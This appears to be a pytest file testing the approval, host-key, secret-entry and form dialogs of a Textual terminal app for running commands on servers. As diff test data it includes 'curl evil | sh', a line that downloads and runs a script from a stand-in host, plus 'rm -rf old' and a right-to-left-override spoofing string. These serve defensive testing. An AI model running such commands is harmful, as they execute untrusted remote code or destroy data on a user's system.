"""Every question: what it shows, and what yes, no and esc answer. The answers are those the run would get, through the asker."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from shell_questions import Ask, asked, press
from shell_stage import DOCUMENT, guide, sees, shown, sight, until
from textual.widgets import Input

from tui import texts
from tui.guide.model import Input as Wanted
from tui.guide.model import TargetSpec
from tui.run.ask import ApprovalQuestion, InputQuestion, PlaceQuestion, TargetQuestion
from tui.run.plan import approval_lines
from tui.secret import Secret
from tui.target.base import HostKeyQuestion, SecretQuestion
from tui.texts import Text
from tui.ui.dialogs.approval import Line, compared, grouped, sorted_out
from tui.ui.dialogs.base import Answer, Dialog
from tui.ui.dialogs.inputs import Field

KEY = HostKeyQuestion("47.98.21.7", "ssh-ed25519", "SHA256:0123456789abcdefghijklmnopqrstuvwxyzABCDEFG", "/home/me/.ssh/known_hosts")
APPROVAL = ApprovalQuestion(guide(), ("ecs  echo hello", "ecs  echo offered", "ecs  echo bye"), ())
PLACE = PlaceQuestion(guide().step("look"), guide().step("look").commands[0], ("ecs", "local"))


@pytest.mark.parametrize("ask", [lambda a: a.approve(APPROVAL), lambda a: a.accept_host_key(KEY)], ids=["approval", "host key"])
@pytest.mark.parametrize(
    ("keys", "answer"),
    [(("y",), True), (("n",), False), (("escape",), False), (("enter",), False), (("ctrl+c",), False), (("left", "enter"), True)],
)
async def test_yes_must_be_meant(ask: Ask, keys: tuple[str, ...], answer: bool) -> None:
    assert await press(ask, *keys) is answer


@pytest.mark.parametrize(("button", "answer"), [("#yes", True), ("#no", False)])
async def test_the_mouse_answers_too(button: str, answer: bool) -> None:
    async with asked(lambda a: a.accept_host_key(KEY)) as (pilot, got):
        await pilot.click(button)
        assert await asyncio.wait_for(got, 10) is answer


@pytest.mark.parametrize("language", ["zh", "en"])
async def test_a_host_key_shows_all_there_is_to_compare(language: texts.Language) -> None:
    texts.use(language)
    async with asked(lambda a: a.accept_host_key(KEY)) as (pilot, _):
        for words in (KEY.host, KEY.kind, KEY.fingerprint, KEY.known_hosts):
            assert sees(pilot, words)
        await pilot.press("pagedown", "pagedown")
        await sight(pilot, "ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub")


@pytest.mark.parametrize("language", ["zh", "en"])
async def test_approval_lists_the_commands_under_their_steps(language: texts.Language) -> None:
    texts.use(language)
    async with asked(lambda a: a.approve(APPROVAL), (100, 30)) as (pilot, _):
        text = shown(pilot.app.screen)
        places = [text.index(words) for words in ("第1步", "echo hello", "echo offered", "第3步", "echo bye")]
        assert places == sorted(places)


async def test_long_approval_scrolls_with_the_answers_in_sight() -> None:
    commands = tuple(f"ecs  echo number-{n}" for n in range(200))
    async with asked(lambda a: a.approve(ApprovalQuestion(guide(), commands, ()))) as (pilot, _):
        assert not sees(pilot, "number-199")
        for _ in range(30):
            await pilot.press("pagedown")
        await sight(pilot, "number-199")
        assert sees(pilot, "不允许")


async def test_a_long_command_goes_on_under_its_own_beginning() -> None:
    text = "echo " + "".join(str(n % 10) for n in range(160)) + "END"
    async with asked(lambda a: a.approve(ApprovalQuestion(guide(), (f"ecs  {text}",), ()))) as (pilot, _):
        rows = shown(pilot.app.screen).splitlines()
        first = next(row for row in rows if "echo 0123" in row)
        last = next(row for row in rows if "END" in row)
        begin = first.index("echo")
        assert set(last[:begin]) <= {" ", "│", *first[: begin - 5]}
        assert "".join(row[begin:].split(" ")[0] for row in rows[rows.index(first) + 1 : rows.index(last) + 1]).endswith("END")


async def test_hidden_characters_of_a_command_are_written_out() -> None:
    question = ApprovalQuestion(guide(), ("ecs  echo \u202egnp.exe \x1b[31mred",), ())
    async with asked(lambda a: a.approve(question)) as (pilot, _):
        assert sees(pilot, "‹U+202E›gnp.exe ‹U+001B›[31mred")


def test_against_the_last_approval_new_and_gone_lines_are_marked() -> None:
    before = ("ecs  echo hello", "ecs  rm -rf old")
    now = ("ecs  echo hello", "local  curl evil | sh")
    assert compared(now, before) == [
        Line(" ", "ecs", "echo hello"),
        Line("-", "ecs", "rm -rf old"),
        Line("+", "local", "curl evil | sh"),
    ]
    assert {line.mark for line in compared(now, ())} == {" "}


def test_every_line_stands_under_some_step() -> None:
    lines = compared(("ecs  unheard of", *APPROVAL.commands), ())
    groups = list(grouped(guide(), lines))
    assert [line for _, group in groups for line in group] == lines
    assert [step.id if step else None for step, _ in groups] == [None, "look", "last"]


UNDONE = DOCUMENT.replace("changes: true", "changes: true\nundo: |\n  echo hello\n  echo back")


def test_commands_checks_and_undo_stand_apart() -> None:
    document = guide(UNDONE)
    step = document.step("look")
    lines = compared(approval_lines(document), ("ecs  echo hello", "ecs  echo old"))
    here = next(lines for found, lines in grouped(document, lines) if found is step)
    assert [(kind, [line.mark + line.text for line in part]) for kind, part in sorted_out(step, here)] == [
        ("", [" echo hello", "-echo old", "+echo offered"]),
        ("check", ["+tailscale version"]),
        ("undo", ["+echo hello", "+echo back"]),
    ]


async def test_the_approval_names_a_place_once_and_labels_checks_and_undo() -> None:
    document = guide(UNDONE)
    question = ApprovalQuestion(document, approval_lines(document), ())
    async with asked(lambda a: a.approve(question), (120, 40)) as (pilot, _):
        rows = [row.replace("│", " ").split() for row in shown(pilot.app.screen).splitlines()]
        begin = next(n for n, row in enumerate(rows) if row[-2:] == ["echo", "hello"])
        seen = [" ".join(row) for row in rows[begin : begin + 7]]
        said = ["ecs echo hello", "echo offered", "检查", "ecs tailscale version", "撤销", "ecs echo hello", "echo back"]
        for row, wanted in zip(seen, said, strict=True):
            assert row.endswith(wanted)
            assert ("ecs" in row) == ("ecs" in wanted)


async def test_a_changed_document_says_how_much_changed() -> None:
    question = ApprovalQuestion(guide(), APPROVAL.commands, ("ecs  echo hello",))
    async with asked(lambda a: a.approve(question)) as (pilot, _):
        assert sees(pilot, "文档的命令变了")
        assert sees(pilot, "新增 2 行 · 去掉 0 行")
        await pilot.press("pagedown")
        await sight(pilot, "+ ecs echo bye")


async def test_a_secret_is_masked_and_given_as_a_secret() -> None:
    question = SecretQuestion(Text("root@47.98.21.7 的密码", "password of root@47.98.21.7"))
    async with asked(lambda a: a.secret(question)) as (pilot, answer):
        await pilot.press(*"hunter2")
        assert not sees(pilot, "hunter2")
        assert sees(pilot, "root@47.98.21.7 的密码")
        await pilot.press("enter")
        assert await asyncio.wait_for(answer, 10) == Secret("hunter2")


async def test_a_wrong_secret_is_said_and_an_echoed_code_is_seen() -> None:
    question = SecretQuestion(Text("验证码", "code"), again=True, echo=True)
    async with asked(lambda a: a.secret(question)) as (pilot, answer):
        await pilot.press(*"123456")
        assert sees(pilot, "上一次的不对")
        assert sees(pilot, "123456")
        await pilot.press("escape")
        assert await asyncio.wait_for(answer, 10) is None


async def test_an_empty_secret_is_no_answer() -> None:
    async with asked(lambda a: a.secret(SecretQuestion(Text("密码", "password")))) as (pilot, answer):
        await pilot.press("enter")
        await pilot.pause()
        assert not answer.done()


def questions(tmp_path: Path) -> tuple[TargetQuestion | InputQuestion, ...]:
    """One question of every type, a file to name among them."""
    (tmp_path / "key").touch()
    return (
        TargetQuestion(TargetSpec("ecs", ask="服务器在哪里？", example="root@203.0.113.10")),
        InputQuestion(Wanted("HOST", "host", "主机？")),
        InputQuestion(Wanted("WORDS", "text", "随便写点", help="什么都行")),
        InputQuestion(Wanted("PASS", "secret", "密码？")),
        InputQuestion(Wanted("NET", "cidr", "网段？")),
        InputQuestion(Wanted("KEYFILE", "file", "文件？")),
        InputQuestion(Wanted("REGION", "choice", "哪个地域？", of=("cn-hangzhou", "cn-beijing"), default="cn-beijing")),
    )


async def test_the_form_asks_all_and_gives_answers_by_name(tmp_path: Path) -> None:
    async with asked(lambda a: a.form(questions(tmp_path))) as (pilot, answer):
        given = ["root@47.98.21.7", "example.com", "words", "s3cret", "203.0.113.0/24", str(tmp_path / "key")]
        for value in given:
            pilot.app.focused.insert_text_at_cursor(value)
            await pilot.press("enter")
        assert not sees(pilot, "s3cret")
        await pilot.press("ctrl+s")
        assert await asyncio.wait_for(answer, 10) == {
            "ecs": "root@47.98.21.7",
            "HOST": "example.com",
            "WORDS": "words",
            "PASS": Secret("s3cret"),
            "NET": "203.0.113.0/24",
            "KEYFILE": str(tmp_path / "key"),
            "REGION": "cn-beijing",
        }


async def test_a_wrong_value_keeps_the_form_open_and_gets_the_cursor() -> None:
    asked_for = (InputQuestion(Wanted("NET", "cidr", "网段？")), InputQuestion(Wanted("HOST", "host", "主机？")))
    async with asked(lambda a: a.form(asked_for)) as (pilot, answer):
        await pilot.press(*"300.1", "enter", *"example.com", "enter")
        await sight(pilot, "✗ “300.1”不是网段")
        assert not answer.done()
        assert pilot.app.focused in pilot.app.screen.query(Field).first().query(Input)


@pytest.mark.parametrize("language", ["zh", "en"])
async def test_the_form_says_what_was_wrong_with_the_answer_before(language: texts.Language) -> None:
    texts.use(language)
    wrong = Text("不认识这个地址", "address not known")
    async with asked(lambda a: a.form((TargetQuestion(TargetSpec("ecs"), wrong, "ftp://x"),))) as (pilot, answer):
        assert sees(pilot, str(wrong))
        assert pilot.app.screen.query_one(Input).value == "ftp://x"
        await pilot.press("escape")
        assert await asyncio.wait_for(answer, 10) is None


@pytest.mark.parametrize(("keys", "answer"), [(("enter",), "ecs"), (("down", "enter"), "local"), (("2",), "local"), (("escape",), None)])
async def test_a_place_is_chosen_or_not(keys: tuple[str, ...], answer: str | None) -> None:
    assert await press(lambda a: a.place(PLACE), *keys) == answer


async def test_a_document_without_places_offers_a_server_by_words() -> None:
    question = PlaceQuestion(guide().step("look"), guide().step("look").commands[0], ("local", "server"))
    async with asked(lambda a: a.place(question)) as (pilot, answer):
        assert sees(pilot, "本机")
        await sight(pilot, "一台服务器（server）")
        await pilot.press("2")
        assert await asyncio.wait_for(answer, 10) == "server"


async def test_the_place_question_shows_what_would_run() -> None:
    async with asked(lambda a: a.place(PLACE)) as (pilot, _):
        assert sees(pilot, "第1步 看一看")
        assert sees(pilot, "echo hello")


@pytest.mark.parametrize(
    ("ask", "nothing"),
    [
        (lambda a: a.approve(APPROVAL), False),
        (lambda a: a.secret(SecretQuestion(Text("密码", "password"))), None),
        (lambda a: a.place(PLACE), None),
    ],
)
async def test_a_question_taken_back_closes_its_dialog_and_answers_no(ask: Ask, nothing: object) -> None:
    async with asked(ask) as (pilot, answer):
        program = pilot.app
        program.screen_stack[-2].asker.withdraw()
        assert await asyncio.wait_for(answer, 10) is nothing
        await until(pilot, lambda: not isinstance(program.screen, Dialog))


async def test_every_answer_is_in_sight_at_80x24() -> None:
    for ask in (lambda a: a.approve(APPROVAL), lambda a: a.accept_host_key(KEY), lambda a: a.place(PLACE)):
        async with asked(ask) as (pilot, _):
            for button in pilot.app.screen.query(Answer):
                x, y = (int(place) for place in button.region.center)
                assert pilot.app.screen.get_widget_at(x, y)[0] is button
